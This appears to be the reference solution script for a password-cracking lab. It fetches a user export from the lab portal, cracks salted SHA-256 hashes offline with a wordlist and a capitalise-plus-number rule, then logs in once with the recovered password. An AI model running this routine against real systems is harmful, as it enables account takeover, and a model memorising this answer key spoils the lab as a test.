#!/bin/bash
# Reference solution for the password-cracking lab, typed in the tester's shell.
# The export comes from the portal, the rule from the policy, the words from the wordlist:
# nothing from the template.
set -euo pipefail
cd /workspace
portal=$(grep -o 'nc -d [0-9.]* 8000' README.txt | awk '{print $3}')
nc -d "$portal" 8000 > users.txt
cat users.txt
cat /srv/docs/password-policy.txt

# Offline: every word, capitalised, followed by 10..99, against every account's salt.
python3 - users.txt /srv/wordlists/common-passwords.txt > cracked.txt <<'PY'
import hashlib, sys
accounts = []
for line in open(sys.argv[1]):
    if line.startswith("#") or not line.strip():
        continue
    user, _uid, field = line.strip().split(":", 2)
    _, scheme, salt, digest = field.split("$")
    accounts.append((user, salt, digest))
for word in open(sys.argv[2]).read().split():
    for n in range(10, 100):
        candidate = word.capitalize() + str(n)
        for user, salt, digest in accounts:
            if hashlib.sha256((salt + candidate).encode()).hexdigest() == digest:
                print(f"{user}:{candidate}")
                sys.exit(0)
sys.exit("not cracked")
PY
cat cracked.txt

# Online, once: the portal must say OK.
IFS=: read -r user pass < cracked.txt
printf '%s %s\n' "$user" "$pass" | nc -N "$portal" 2323 | tee login.txt
grep -q '^OK' login.txt
